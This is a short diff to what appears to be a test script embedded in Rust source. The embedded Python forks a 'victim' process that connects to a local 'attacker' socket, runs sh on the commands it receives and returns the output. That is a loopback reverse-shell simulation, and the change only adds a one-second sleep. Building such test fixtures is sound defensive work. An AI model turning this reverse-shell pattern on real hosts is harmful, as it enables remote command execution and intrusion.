@@ -83,13 +83,15 @@ PYTHON
         prepare: "loopback",
         script: r#"
 python3 - <<'PYTHON'
-import os, socket, subprocess
+import os, socket, subprocess, time
 attacker = socket.create_server(("127.0.0.1", 0))
 victim = os.fork()
 if victim == 0:
     address = attacker.getsockname()
     attacker.close()
     connection = socket.create_connection(address)
+    # A connection is told once it is established, which takes its moment; so does typing.
+    time.sleep(1)
     shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
     answer, _ = shell.communicate(connection.recv(100))
     connection.sendall(answer)
